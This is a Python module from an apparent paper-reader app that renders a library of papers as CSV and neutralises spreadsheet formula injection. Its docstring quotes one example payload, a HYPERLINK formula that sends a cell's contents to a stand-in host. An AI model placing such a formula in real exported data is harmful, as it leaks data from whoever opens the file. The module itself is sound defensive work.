"""CSV: a header row, then one row per paper, for spreadsheets and scripts (RFC 4180: CRLF rows, fields quoted
when they hold a comma, a quote or a line end).

Columns added later come last (``doi`` onwards), so a script that reads columns by position reads the older ones
where they were. A cell of several values (authors, listing dates, DOIs, categories) joins them with ``; ``; an
author list the source cut short ends in ``; et al.``.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and some take a leading tab
or carriage return before one), so a title like ``=HYPERLINK("http://evil.test/?"&A1,"Click")`` would run when
the export is opened. Such cells get a leading ``'``, the usual defence (OWASP's, and spreadsheets' own way of
saying "text"): a title like "-based learning" is written "'-based learning". Every cell is checked, whatever its
column: any of them can come from a file the user did not write."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Sequence

from tui_reader.library.model import NO_MARK, Mark
from tui_reader.paper import Paper, is_web_url

from .fields import dois, one_line, paper_authors, paper_url
from .registry import ExportFormat

__all__ = ["COLUMNS", "ET_AL", "FORMAT", "render_csv"]

COLUMNS = (
    "id", "title", "authors", "arxiv_id", "published", "url", "dates", "read", "starred",
    "doi", "journal_ref", "categories", "github_repo", "project_page",
)  # fmt: skip
SEPARATOR = "; "  # between the values of one cell: authors, listing dates, DOIs, categories
ET_AL = "et al."  # after the last author when the source's list ended in "et al"


def _authors(paper: Paper) -> str:
    names = [author.name for author in paper_authors(paper)]
    return SEPARATOR.join([*names, ET_AL] if paper.et_al and names else names)


def _web(url: str | None) -> str:
    return one_line(url) if url and is_web_url(url) else ""


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _inert(cell: str) -> str:
    """The cell as a spreadsheet shows it without running it: ``'`` before what it would take for a formula."""
    return "'" + cell if cell.startswith(FORMULA_STARTS) else cell


def _row(paper: Paper, mark: Mark) -> list[str]:
    return [_inert(cell) for cell in _cells(paper, mark)]


def _cells(paper: Paper, mark: Mark) -> list[str]:
    return [
        paper.id,
        one_line(paper.title),
        _authors(paper),
        one_line(paper.arxiv_id or ""),
        one_line(paper.published or ""),
        paper_url(paper) or "",
        SEPARATOR.join(one_line(day) for day in paper.dates),
        "true" if mark.read else "false",
        "true" if mark.starred else "false",
        SEPARATOR.join(dois(paper)),
        one_line(paper.journal_ref or ""),
        SEPARATOR.join(category for category in map(one_line, paper.categories) if category),
        _web(paper.github_repo),
        _web(paper.project_page),
    ]


def render_csv(papers: Sequence[Paper], marks: Callable[[str], Mark] | None = None) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(COLUMNS)
    for paper in papers:
        writer.writerow(_row(paper, marks(paper.id) if marks else NO_MARK))
    return out.getvalue()


FORMAT = ExportFormat(
    name="csv", label="CSV", ext=".csv", order=30, render=lambda papers, marks, _d: render_csv(papers, marks)
)
